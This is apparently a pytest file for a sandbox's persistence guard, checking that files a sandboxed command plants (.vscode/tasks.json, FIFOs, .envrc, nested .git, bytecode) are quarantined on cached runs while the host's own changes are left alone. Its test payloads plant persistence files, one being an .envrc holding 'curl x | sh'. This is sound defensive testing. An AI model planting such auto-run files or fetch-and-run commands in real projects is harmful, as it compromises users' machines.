"""The persistence guard on the plan cache's warm path: a repeated command is checked too."""
from __future__ import annotations

import os

from tests.support.trust import trust

from .test_plan_cache import Sbox, sbox  # noqa: F401  (the fixture)

PLANT = "import os; os.makedirs('.vscode', exist_ok=True); open('.vscode/tasks.json', 'w').write('{}'); os.mkfifo('p.fifo')"


def test_a_warm_run_is_guarded_as_the_cold_one(sbox: Sbox) -> None:  # noqa: F811
    trust(sbox.root / "sbox.yaml")
    cold, warm = sbox.run_twice("/usr/bin/python3", "-c", PLANT)
    assert cold.returncode == 0 and warm.returncode == 0, f"{cold}\n{warm}"
    for run in (cold, warm):
        assert "sbox: quarantined .vscode/tasks.json (created by the sandbox)" in run.stderr, run
        assert "sbox: quarantined p.fifo (created by the sandbox, fifo)" in run.stderr, run
    assert not os.path.lexists(sbox.root / ".vscode") and not os.path.lexists(sbox.root / "p.fifo")
    assert len(os.listdir(sbox.state / "quarantine")) == 2


DEEP = ("import os; os.mkfifo('node_modules/a/lib/p.fifo'); open('node_modules/a/.envrc', 'w').write('curl x | sh');"
        " os.makedirs('node_modules/b/.git')")


def test_a_warm_run_over_a_kept_index_still_sees_deep_changes(sbox: Sbox) -> None:  # noqa: F811
    """The walk after a warm step lists only directories that changed since the kept index
    (guard/index.py): a FIFO deep in an existing tree, a nested .envrc rewritten in place (its
    directory unchanged; the host's version, known from the kept index, is put back) and a new
    nested .git are quarantined all the same."""
    import time

    trust(sbox.root / "sbox.yaml")
    (sbox.root / "node_modules" / "a" / "lib").mkdir(parents=True)
    (sbox.root / "node_modules" / "b").mkdir()
    (sbox.root / "node_modules" / "a" / ".envrc").write_text("echo hi\n")
    cold = sbox.run("/usr/bin/true")  # plans, and keeps the tree's index
    time.sleep(0.2)  # the tree's times settle behind the kept walk
    warm = sbox.run("/usr/bin/true")
    assert warm.warm and warm.returncode == 0, f"{cold}\n{warm}"
    time.sleep(0.2)
    run = sbox.run("/usr/bin/python3", "-c", DEEP)
    assert run.returncode == 0, run
    for line in ("node_modules/a/lib/p.fifo (created by the sandbox, fifo)",
                 "node_modules/a/.envrc (changed by the sandbox, .envrc; the previous version is back)",
                 "node_modules/b/.git (created by the sandbox"):
        assert f"sbox: quarantined {line}" in run.stderr, run
    assert (sbox.root / "node_modules" / "a" / ".envrc").read_text() == "echo hi\n"  # the host's, put back


def _git(root: object, *args: str) -> str:
    import subprocess

    return subprocess.run(["git", "-c", "user.email=a@b.test", "-c", "user.name=a", *args], cwd=root, check=True,
                          capture_output=True, text=True).stdout


def test_the_host_committing_while_a_warm_step_runs_keeps_its_repository(sbox: Sbox) -> None:  # noqa: F811
    """Red team 18: a `git status` or `git commit` on the host rewrites `.git/index` by a rename,
    which sets the `.git` directory's change time. The warm path's guard was not told the
    directory is out of the step's reach (the record kept binds only, not the tmpfs skeleton.py
    puts over it), so a change time after the step's start made it a `.git` the step had made:
    the host's whole repository went to the quarantine and an empty one was left (8 of 8 runs
    with `git status` just before the repeated command). The cold run is the control."""
    import time

    trust(sbox.root / "sbox.yaml")
    _git(sbox.root, "init", "-q", ".")
    _git(sbox.root, "add", "-A")
    _git(sbox.root, "commit", "-qm", "one")
    step = ("sh", "-c", "sleep 1.5")
    for n, warm in ((2, False), (3, True)):
        running = sbox.start(*step)
        time.sleep(0.5)  # the step is running
        _git(sbox.root, "commit", "-q", "--allow-empty", "-m", f"commit {n}")  # as a second terminal would
        run = sbox.finish(running)
        assert run.returncode == 0 and run.warm is warm, run
        assert "quarantined" not in run.stderr, run
        assert _git(sbox.root, "rev-list", "--count", "HEAD").strip() == str(n), run
    assert not (sbox.state / "quarantine").exists() or not os.listdir(sbox.state / "quarantine")


def test_what_the_host_writes_just_before_a_warm_step_is_not_the_step_s(sbox: Sbox) -> None:  # noqa: F811
    """Red team 19: the host's `python3 app.py` (writing `__pycache__/util.cpython-311.pyc`) and an
    `.envrc` of its own, then at once a repeated step, which starts in some 20 ms: the guard took
    everything changed 50 ms before the step's start as the step's, and moved the host's files
    (bwrap 6 of 6). A file the step writes is still the step's (the first check)."""
    import subprocess
    import sys

    trust(sbox.root / "sbox.yaml")
    (sbox.root / "util.py").write_text("X = 1\n")
    cold = sbox.run("sh", "-c", "printf x > planted.pyc")
    assert "sbox: quarantined planted.pyc (created by the sandbox, bytecode)" in cold.stderr, cold
    sbox.run("sh", "-c", "printf x > planted.pyc")
    for n in range(3):
        env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
        subprocess.run([sys.executable, "-c", "import util"], cwd=sbox.root, env=env, check=True, timeout=60)
        (sbox.root / ".envrc").write_text(f"export N={n}\n")
        warm = sbox.run("sh", "-c", "printf x > planted.pyc")
        assert warm.warm, warm
        assert "sbox: quarantined planted.pyc (created by the sandbox, bytecode)" in warm.stderr, warm
        assert "__pycache__" not in warm.stderr and ".envrc" not in warm.stderr, warm
        assert list((sbox.root / "__pycache__").glob("util.*.pyc")), warm
        assert (sbox.root / ".envrc").read_text() == f"export N={n}\n"
